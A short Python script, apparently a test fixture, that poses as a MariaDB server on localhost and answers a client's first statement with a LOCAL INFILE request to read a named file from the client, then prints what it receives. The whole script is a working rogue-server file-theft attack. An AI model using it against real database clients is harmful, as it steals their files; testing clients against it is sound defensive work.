#!/usr/bin/env python3
"""thief.py FILE: a server like MariaDB that answers the first statement with a request for
a file of its client (LOCAL INFILE of the protocol).  Says its port, then what it got."""
import socket
import struct
import sys

PROTOCOL_41, LOCAL_FILES, SECURE, PLUGIN, DATABASE = 0x200, 0x80, 0x8000, 0x80000, 0x8


def take(stream):
    """A packet: its number and what is in it."""
    head = stream.read(4)
    if len(head) < 4:
        return 0, b""
    return head[3], stream.read(head[0] | head[1] << 8 | head[2] << 16)


def give(stream, number, body):
    stream.write(struct.pack("<I", len(body))[:3] + bytes([number]) + body)
    stream.flush()


def main():
    listener = socket.create_server(("127.0.0.1", 0))
    print(listener.getsockname()[1], flush=True)
    stream = listener.accept()[0].makefile("rwb")
    able = PROTOCOL_41 | LOCAL_FILES | SECURE | PLUGIN | DATABASE
    give(stream, 0, b"\x0a5.5.5-10.11.0-MariaDB\0" + struct.pack("<I", 1) + b"a" * 8 + b"\0"
         + struct.pack("<HBHH", able & 0xFFFF, 45, 2, able >> 16) + bytes([21]) + bytes(10)
         + b"b" * 12 + b"\0mysql_native_password\0")
    number, _ = take(stream)
    give(stream, number + 1, b"\0\0\0\2\0\0\0")
    take(stream)
    give(stream, 1, b"\xfb" + sys.argv[1].encode())
    number, body = take(stream)
    print("got", body.decode(), flush=True)
    if not body:
        give(stream, number + 1, b"\0\0\0\2\0\0\0")


main()
